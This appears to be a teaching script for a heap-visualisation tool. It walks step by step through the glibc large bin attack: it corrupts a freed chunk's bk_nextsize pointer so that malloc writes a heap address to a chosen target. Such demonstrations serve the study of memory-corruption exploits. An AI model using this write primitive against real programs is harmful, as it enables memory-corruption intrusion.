# large-bin-attack.hs - attack: sorting a chunk into a large bin writes its address to a target.
title "Attack: large bin attack"
p1 = malloc(0x428)
g1 = malloc(0x18)
p2 = malloc(0x418)
g2 = malloc(0x18)
free(p1)
g3 = malloc(0x438)
pause "p1 (0x430) is sorted into large bin 0x400-0x430"
free(p2)
target = 0x7fffffffe000
say "Corrupt p1's bk_nextsize to target - 0x20, then make malloc sort p2 (smaller) into the same bin."
*(p1 + 0x18) = target - 0x20
g4 = malloc(0x438)
written = *(target)
written
pause "Inserting the smaller p2 wrote its chunk address into the target: the technique worked"
